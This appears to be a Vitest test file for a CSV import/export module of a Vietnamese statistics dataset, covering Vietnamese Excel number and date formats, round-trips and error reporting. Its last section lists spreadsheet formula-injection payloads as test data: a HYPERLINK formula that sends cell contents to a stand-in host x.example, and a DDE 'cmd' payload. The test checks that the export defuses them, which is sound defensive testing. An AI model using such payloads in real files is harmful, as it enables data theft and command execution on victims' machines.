import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import {
  csvPathOf,
  datasetToCsv,
  parseCsvDate,
  readDatasetCsv,
} from '../../src/domain/dataset-csv';
import { planImport } from '../../src/domain/import';
import { decideNumberStyle, parseNumberIn } from '../../src/domain/number-style';
import { validateDataset } from '../../src/domain/validate';
import { bundledDataset } from '../fixtures/dataset';

const dataset = bundledDataset();

describe('numbers and dates as Excel writes them', () => {
  it.each<[string, number | undefined | 'ask']>([
    ['12.455,236', 12455.236],
    ['12455.236', 12455.236],
    ['12455,236', 12455.236],
    ['12,455.236', 12455.236],
    ['19.492,8', 19492.8],
    // Alone, it reads two ways: asked, even in a `;` file.
    ['8.599', 'ask'],
    ['819', 819],
    ['-4,5', -4.5],
    ["'-4,5", -4.5],
    [' 43 ', 43],
    ['1 234,5', 1234.5],
    ['', undefined],
    ['mười', undefined],
    ['12,3,4', undefined],
  ])('%j → %s', (text, expected) => {
    // Alone in a ';' file, as Vietnamese Excel writes one.
    const decision = decideNumberStyle([{ text, at: '2:Giá trị', column: 'Giá trị' }], ';');
    expect(decision.ok ? parseNumberIn(text, decision.style) : 'ask').toBe(expected);
  });

  it.each<[string, string | undefined]>([
    ['27/06/2024', '2024-06-27'],
    ['1/7/2024', '2024-07-01'],
    ['10/2022', '2022-10'],
    ['2024-06-27', '2024-06-27'],
    ['27.06.2024', undefined],
  ])('date %j → %s', (text, expected) => {
    expect(parseCsvDate(text)).toBe(expected);
  });
});

describe('the dataset as CSV', () => {
  const csv = datasetToCsv(dataset);

  it('is written for Vietnamese Excel: BOM, ";", vi-VN numbers', () => {
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.slice(1).split('\r\n')[0]).toMatch(/^Mã số liệu;Mã đơn vị;Mã chỉ số;/);
    expect(csv).toContain(';12.455,236;19.492,8;2024-year;>64;36;2023-h1;');
  });

  it('reads back to the same figures', () => {
    const read = readDatasetCsv(csv, dataset);
    expect(read.ok).toBe(true);
    if (!read.ok) return;
    // "target": null and no target say the same: no target given.
    const normal = (list: typeof dataset.observations) =>
      list.map(
        (obs) => JSON.parse(JSON.stringify({ ...obs, target: obs.target ?? undefined })) as unknown,
      );
    expect(normal(read.dataset.observations)).toEqual(normal(dataset.observations));
    expect(validateDataset(read.dataset).ok).toBe(true);
  });

  it('reads back as unchanged by the import plan: an export then an import changes nothing', () => {
    const read = readDatasetCsv(csv, dataset);
    if (!read.ok) throw new Error('the export could not be read back');
    expect(planImport(dataset, read.dataset, 'merge').counts).toEqual({
      added: 0,
      changed: 0,
      unchanged: dataset.observations.length,
      removed: 0,
    });
  });

  it('keeps the digits an article printed for a stated share ("69,30%")', () => {
    const withDecimals = structuredClone(dataset);
    const index = withDecimals.observations.findIndex((obs) => obs.statedShare);
    const obs = withDecimals.observations[index]!;
    obs.statedShare = { percent: 69.3, qualifier: 'exact', decimals: 2 };
    const text = datasetToCsv(withDecimals);
    expect(text).toContain(';69,30;');
    const read = readDatasetCsv(text, withDecimals);
    if (!read.ok) throw new Error('could not read back');
    expect(read.dataset.observations[index]!.statedShare).toEqual({
      percent: 69.3,
      qualifier: 'exact',
      decimals: 2,
    });
    // Digits that the number needs anyway are not recorded as decimals.
    const plain = readDatasetCsv(text.replace(';69,30;', ';69,3;'), withDecimals);
    if (!plain.ok) throw new Error('could not read back');
    expect(plain.dataset.observations[index]!.statedShare).toEqual({
      percent: 69.3,
      qualifier: 'exact',
    });
  });

  it('counts the printed decimals as the number reader reads them, and never drops a digit', () => {
    const withShare = structuredClone(dataset);
    const index = withShare.observations.findIndex((obs) => obs.statedShare);
    const share = (text: string) => {
      const csv = datasetToCsv(withShare).replace(/;>64;/, `;${text};`);
      const read = readDatasetCsv(csv, withShare);
      if (!read.ok) throw new Error(`could not read ${text}`);
      return read.dataset.observations[index]!.statedShare;
    };
    expect(share('69,30 %')).toEqual({ percent: 69.3, qualifier: 'exact', decimals: 2 });
    expect(share('69,30\u00a0%')).toEqual({ percent: 69.3, qualifier: 'exact', decimals: 2 });
    // Fewer decimals than the number has: the export keeps every digit.
    withShare.observations[index]!.statedShare = {
      percent: 69.35,
      qualifier: 'exact',
      decimals: 1,
    };
    expect(datasetToCsv(withShare)).toContain(';69,35;');
  });

  it('reads a plain CSV with "," and "." and no BOM', () => {
    const plain = [
      'Mã đơn vị,Mã chỉ số,Mã kỳ,Giá trị,Chỉ tiêu / tổng số,Mã nguồn,Trích dẫn',
      'dong-da,schools-national-standard,2022-10-status,44,62,a002,"trích dẫn, có dấu phẩy"',
    ].join('\n');
    const read = readDatasetCsv(plain, dataset);
    expect(read.ok).toBe(true);
    if (read.ok) {
      expect(read.dataset.observations).toEqual([
        expect.objectContaining({
          unit: 'dong-da',
          value: 44,
          target: 62,
          quote: 'trích dẫn, có dấu phẩy',
        }),
      ]);
    }
  });

  it('defines a new period and a new source from a row', () => {
    const text = [
      'Mã đơn vị;Mã chỉ số;Mã kỳ;Tên kỳ;Từ ngày;Đến ngày;Giá trị;Chỉ tiêu / tổng số;Mã nguồn;Tiêu đề nguồn;Ngày đăng;Tệp nguồn;Trích dẫn',
      'cau-giay;budget-revenue;2024-9m;9 tháng đầu năm 2024;01/01/2024;30/09/2024;1.000,5;2.000;test;Tệp thử;01/10/2024;thu.txt;DỮ LIỆU THỬ',
    ].join('\r\n');
    const read = readDatasetCsv(text, dataset);
    expect(read.ok).toBe(true);
    if (!read.ok) return;
    expect(read.dataset.periods.find((p) => p.id === '2024-9m')).toMatchObject({
      start: '2024-01-01',
      end: '2024-09-30',
      year: 2024,
    });
    expect(read.dataset.sources.find((s) => s.id === 'test')).toMatchObject({
      title: 'Tệp thử',
      date: '2024-10-01',
    });
    expect(read.dataset.observations[0]).toMatchObject({ value: 1000.5, target: 2000 });
    expect(validateDataset(read.dataset).ok).toBe(true);
  });

  it('names the row and column of what it cannot read', () => {
    const text = [
      'Mã đơn vị;Mã chỉ số;Mã kỳ;Giá trị;Mã nguồn;Trích dẫn',
      'cau-giay;budget-revenue;2024-h1;mười hai;a001;x',
    ].join('\n');
    const read = readDatasetCsv(text, dataset);
    expect(read).toMatchObject({
      ok: false,
      problems: [{ path: '2:Giá trị', code: 'number', detail: 'mười hai' }],
    });
    expect(read.ok || read.problems).toHaveLength(1);
  });

  it('says how far its rows are read, and the problems found so far, every 5,000 rows', () => {
    const header = 'Mã đơn vị;Mã chỉ số;Mã kỳ;Giá trị;Mã nguồn;Trích dẫn';
    // 12,001 rows; unreadable numbers in rows 3 and 7,002 (the header is row 1).
    const rows = Array.from(
      { length: 12_001 },
      (_, i) => `cau-giay;budget-revenue;2024-h1;${i === 1 || i === 7000 ? 'mười' : i};a001;x`,
    );
    const told: Array<[number, number, number]> = [];
    const read = readDatasetCsv([header, ...rows].join('\n'), dataset, {
      onRows: (done, total, problems) => told.push([done, total, problems]),
    });
    expect(told).toEqual([
      [5_000, 12_001, 1],
      [10_000, 12_001, 2],
      [12_001, 12_001, 2],
    ]);
    expect(read.ok || read.problems.map((p) => p.path)).toEqual(['3:Giá trị', '7002:Giá trị']);
  });

  it('reports missing columns', () => {
    const read = readDatasetCsv('Giá trị;Trích dẫn\n1;x', dataset);
    expect(read.ok).toBe(false);
    if (!read.ok) expect(read.problems.map((p) => p.path)).toContain('[Mã đơn vị]');
  });

  it('maps a validation problem back to its CSV row and column', () => {
    expect(csvPathOf({ path: 'observations[1].unit', code: 'unknownRef' }, [2, 7])).toEqual({
      path: '7:Mã đơn vị',
      code: 'unknownRef',
    });
  });
});

describe('nothing in a CSV is lost without a word', () => {
  const header = 'Mã đơn vị;Mã chỉ số;Mã kỳ;Giá trị;Mã nguồn;Trích dẫn';
  const good = 'cau-giay;budget-revenue;2024-h1;1;a001;x';
  const codes = (text: string) => {
    const read = readDatasetCsv(text, dataset);
    return read.ok ? [] : read.problems.map((p) => `${p.path} ${p.code}`);
  };

  it.each<[string, string, string]>([
    [
      'an unclosed quote',
      `${header}\n${good}\ncau-giay;budget-revenue;2023-h1;2;a001;"không đóng\n${good}`,
      '3: unclosedQuote',
    ],
    ['a row with more cells than headers', `${header}\n${good};thừa`, '2: extraCells'],
    ['a misspelt column', `${header};Chi tieu\n${good};5`, '[Chi tieu] unknownColumn'],
    [
      'growth without the period it compares with',
      `${header};Tăng so với cùng kỳ (%)\n${good};5`,
      '2:Kỳ so sánh required',
    ],
    [
      'a known period given other dates',
      `${header};Đến ngày\n${good};31/12/2024`,
      '2:Đến ngày conflictingDefinition',
    ],
  ])('%s is reported', (_name, text, expected) => {
    expect(codes(text).join(' | ')).toContain(expected);
  });

  it('asks how "12.455" is meant, in a "," file and in a ";" file', () => {
    const commaFile =
      'Mã đơn vị,Mã chỉ số,Mã kỳ,Giá trị,Mã nguồn,Trích dẫn\ncau-giay,budget-revenue,2024-h1,12.455,a001,x';
    const comma = readDatasetCsv(commaFile, dataset);
    expect(comma).toMatchObject({
      ok: false,
      problems: [],
      info: { separator: ',', numbers: { ok: false, reason: 'noEvidence' } },
    });
    expect(comma.info?.numbers.ambiguous).toEqual([
      { text: '12.455', at: '2:Giá trị', column: 'Giá trị' },
    ]);
    // Once the user says how the file writes its numbers, they are read so.
    const english = readDatasetCsv(commaFile, dataset, { numberStyle: 'en' });
    const vietnamese = readDatasetCsv(commaFile, dataset, { numberStyle: 'vi' });
    expect(english.ok && english.dataset.observations[0]?.value).toBe(12.455);
    expect(vietnamese.ok && vietnamese.dataset.observations[0]?.value).toBe(12455);
    const semicolon = readDatasetCsv(
      `${header}\ncau-giay;budget-revenue;2024-h1;12.455;a001;x`,
      dataset,
    );
    // A `;` file is likely Vietnamese: said in the question, never taken as the answer.
    expect(semicolon.ok).toBe(false);
    expect(semicolon.info?.numbers).toMatchObject({
      ok: false,
      reason: 'noEvidence',
      likely: 'vi',
    });
  });

  it('keeps Excel’s row numbers after a blank row, takes "64%", and drops a protective apostrophe', () => {
    const text = `${header};Tỷ lệ bài viết nêu (%)\n${good};\n;;;;;;\ncau-giay;budget-revenue;2023-h1;mười;a001;'-trích;64%`;
    expect(codes(text)).toEqual(['4:Giá trị number']);
    const fixed = readDatasetCsv(text.replace('mười', '2'), dataset);
    expect(fixed.ok).toBe(true);
    if (fixed.ok) {
      expect(fixed.dataset.observations[1]).toMatchObject({
        quote: '-trích',
        statedShare: { percent: 64 },
      });
      expect(fixed.rowOfObservation).toEqual([2, 4]);
    }
  });
});

describe('the whole-data CSV is safe to open in Excel', () => {
  // Text an import could bring: formulas, some across lines (PapaParse's own escape missed those).
  const hostile = [
    '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")',
    '=HYPERLINK("http://x.example",\n"hai dòng")',
    '+1\n=2+3',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+9)',
    '\t=1+1',
  ];
  const withHostileText = {
    ...dataset,
    observations: dataset.observations.map((obs, index) => ({
      ...obs,
      quote: hostile[index % hostile.length] ?? obs.quote,
    })),
    sources: dataset.sources.map((source, index) => ({
      ...source,
      title: hostile[(index + 1) % hostile.length] ?? source.title,
    })),
  };
  const csv = datasetToCsv(withHostileText);
  const cells = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { delimiter: ';' }).data.flat();

  it('writes no cell that a spreadsheet would run as a formula', () => {
    const live = cells.filter(
      (cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d[\d.,]*(?:\s?%)?$/.test(cell),
    );
    expect(live).toEqual([]);
    // Each hostile text is there, behind its apostrophe.
    for (const text of hostile) expect(cells).toContain(`'${text}`);
  });

  it('reads its own file back to the same text', () => {
    const read = readDatasetCsv(csv, withHostileText);
    if (!read.ok) throw new Error(JSON.stringify(read.problems));
    expect(read.dataset.observations.map((obs) => obs.quote)).toEqual(
      withHostileText.observations.map((obs) => obs.quote),
    );
  });
});
